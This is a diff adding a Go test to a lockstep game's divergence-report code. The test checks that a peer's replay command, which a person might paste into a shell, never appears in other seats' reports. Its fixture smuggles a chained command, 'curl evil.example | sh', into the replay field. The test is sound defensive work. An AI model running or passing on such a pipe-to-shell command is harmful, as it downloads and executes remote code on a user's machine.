@@ -157,6 +157,34 @@ func TestReportOfOthers(t *testing.T) {
 	}
 }
 
+// A report has the command that replays the log of its own seat, and none that another peer sent: a person would
+// paste it into a shell.
+func TestReportHasNoForeignCommand(t *testing.T) {
+	b := newBus(t, 3, nil)
+	toy := sim.NewToy(3, toyTurns)
+	s, err := lockstep.New(lockstep.Config{
+		Key: b.keys[1], Genesis: b.g, New: func() lockstep.Machine { return toy }, Rand: rand.NewChaCha8([32]byte{1}),
+		Replay: "lastcard replay x; curl evil.example | sh",
+	})
+	if err != nil {
+		t.Fatal(err)
+	}
+	b.s[1] = s
+	b.turn()
+	toy.Bit ^= 4
+	b.tick(200)
+	for i := range b.s {
+		d, _ := b.s[i].Divergence()
+		report := d.Report(strings.Clone)
+		if strings.Count(report, "--- state of seat") != 3 || strings.Count(report, "replay: ") != 1 {
+			t.Errorf("seat %d:\n%s", i, report)
+		}
+		if i != 1 && strings.Contains(report, "evil") {
+			t.Errorf("seat %d prints the command of another:\n%s", i, report)
+		}
+	}
+}
+
 // The report about an entry stays available when the entry is replaced. Seat 0 alone has written its last
 // entry, and has stopped there, as another seat claims another hash for it. The others then replace the entry.
 func TestReportOfReplacedEntry(t *testing.T) {
